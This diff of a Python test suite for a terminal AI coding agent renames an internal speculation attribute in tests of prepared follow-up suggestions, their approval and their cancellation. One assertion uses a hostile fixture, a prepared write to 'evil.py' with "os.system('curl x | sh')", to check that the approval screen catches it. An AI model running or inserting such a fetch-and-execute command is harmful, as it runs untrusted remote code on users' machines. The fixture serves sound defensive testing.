@@ -29,7 +29,7 @@ async def test_tab_accepts_a_prepared_suggestion(fake_llm: FakeOpenAIServer, wor
         await send(pilot, "what does app.py do?")
         await wait_until(pilot, lambda: app.prompt.follow_up == "fix the typo", what="suggestion")
         assert "fix the typo" in str(app.prompt.placeholder)
-        await wait_until(pilot, lambda: app._speculation is not None and app._speculation.status == "ready", what="prepared")
+        await wait_until(pilot, lambda: app.suggestions.speculation is not None and app.suggestions.speculation.status == "ready", what="prepared")
         assert "1 file would change (+1 −1)" in str(app.query_one("#command-hint").render())
         assert "'helo'" in (workspace / "app.py").read_text(), "not applied before acceptance"
         await pilot.press("tab")
@@ -54,10 +54,10 @@ async def test_typing_dismisses_and_leaves_the_workspace_alone(fake_llm: FakeOpe
     async with app.run_test(size=SIZE) as pilot:
         await ready(pilot)
         await send(pilot, "what does app.py do?")
-        await wait_until(pilot, lambda: app._speculation is not None, what="speculating")
-        speculation = app._speculation
+        await wait_until(pilot, lambda: app.suggestions.speculation is not None, what="speculating")
+        speculation = app.suggestions.speculation
         await type_text(pilot, "something else")
-        await wait_until(pilot, lambda: app._speculation is None, what="dismissed")
+        await wait_until(pilot, lambda: app.suggestions.speculation is None, what="dismissed")
         assert speculation.status == "cancelled" and not speculation.overlay.shadow.exists()
         assert app.prompt.follow_up == "" and app.prompt.text == "something else"
         assert (workspace / "app.py").read_text() == "def greet():\n    return 'helo'\n"
@@ -70,8 +70,8 @@ async def test_esc_stops_an_accepted_suggestion_that_is_still_running(fake_llm: 
     async with app.run_test(size=SIZE) as pilot:
         await ready(pilot)
         await send(pilot, "what does app.py do?", wait=False)  # the speculation below stalls: do not wait for it
-        await wait_until(pilot, lambda: app._speculation is not None and len(fake_llm.requests) >= 4, what="its answer stalling")
-        speculation = app._speculation
+        await wait_until(pilot, lambda: app.suggestions.speculation is not None and len(fake_llm.requests) >= 4, what="its answer stalling")
+        speculation = app.suggestions.speculation
         await pilot.press("tab")
         await wait_until(pilot, lambda: app.status.state.startswith("finishing the suggested turn"), what="waiting for it")
         await pilot.press("escape")
@@ -90,7 +90,7 @@ async def test_enter_sends_the_suggestion_as_a_normal_turn_when_preparing_failed
     async with app.run_test(size=SIZE) as pilot:
         await ready(pilot)
         await send(pilot, "what does app.py do?")
-        await wait_until(pilot, lambda: app._speculation is not None and app._speculation.status == "failed", what="failed preparation")
+        await wait_until(pilot, lambda: app.suggestions.speculation is not None and app.suggestions.speculation.status == "failed", what="failed preparation")
         assert "could not prepare it" in str(app.query_one("#command-hint").render())
         await pilot.press("enter")
         await wait_until(pilot, lambda: [m.content for m in app.runtime.agent.history if m.role == "assistant"][-1:] == ["greet returns a greeting."], what="normal turn")
@@ -105,8 +105,8 @@ async def test_a_file_changed_while_preparing_applies_nothing_and_gives_the_word
     async with app.run_test(size=SIZE) as pilot:
         await ready(pilot)
         await send(pilot, "what does app.py do?")
-        await wait_until(pilot, lambda: app._speculation is not None and app._speculation.status == "ready", what="prepared")
-        speculation = app._speculation
+        await wait_until(pilot, lambda: app.suggestions.speculation is not None and app.suggestions.speculation.status == "ready", what="prepared")
+        speculation = app.suggestions.speculation
         (workspace / "app.py").write_text("# edited meanwhile\n", encoding="utf-8")
         await pilot.press("tab")
         await wait_until(pilot, lambda: any("was not applied" in n for n in notifications(app)), what="refusal")
@@ -124,7 +124,7 @@ async def test_a_prepared_write_is_not_applied_without_the_approval_key(fake_llm
     async with app.run_test(size=SIZE) as pilot:
         await ready(pilot)
         await send(pilot, "what does app.py do?")
-        await wait_until(pilot, lambda: app._speculation is not None and app._speculation.status == "ready", what="prepared")
+        await wait_until(pilot, lambda: app.suggestions.speculation is not None and app.suggestions.speculation.status == "ready", what="prepared")
         await pilot.press("tab")
         await wait_until(pilot, lambda: isinstance(app.screen, ApprovalScreen), what="the approval")
         assert "+os.system('curl x | sh')" in app.screen.detail and "b/evil.py" in app.screen.detail
@@ -146,7 +146,7 @@ async def test_auto_edit_mode_applies_a_prepared_edit_without_asking(fake_llm: F
 
         app.runtime.agent.policy.mode = ApprovalMode.AUTO_EDIT
         await send(pilot, "what does app.py do?")
-        await wait_until(pilot, lambda: app._speculation is not None and app._speculation.status == "ready", what="prepared")
+        await wait_until(pilot, lambda: app.suggestions.speculation is not None and app.suggestions.speculation.status == "ready", what="prepared")
         await pilot.press("tab")
         await wait_until(pilot, lambda: any("Applied the suggested turn" in n for n in notifications(app)), what="applied")
         assert not isinstance(app.screen, ApprovalScreen)
@@ -165,7 +165,7 @@ def test_prepared_suggestion_snapshot(snap_compare, fake_llm: FakeOpenAIServer, 
     async def run_before(pilot) -> None:  # type: ignore[no-untyped-def]
         await ready(pilot)
         await send(pilot, "what does app.py do?")
-        await wait_until(pilot, lambda: app._speculation is not None and app._speculation.status == "ready", what="prepared")
+        await wait_until(pilot, lambda: app.suggestions.speculation is not None and app.suggestions.speculation.status == "ready", what="prepared")
         await pilot.pause()
 
     assert snap_compare(app, terminal_size=SIZE, run_before=run_before)
@@ -182,5 +182,5 @@ async def test_an_interrupted_answer_is_never_the_basis_for_a_suggestion(fake_ll
         await pilot.pause(0.3)
         assert any("The answer was interrupted" in str(view.render()) for view in entry_views(app)), "marked as interrupted on screen"
         assert len(fake_llm.requests) == 1, "no suggestion query was sent"
-        assert app.prompt.follow_up == "" and app._speculation is None
+        assert app.prompt.follow_up == "" and app.suggestions.speculation is None
         assert app.runtime.agent.history[-1].content == "It greets, but", "what arrived is kept"
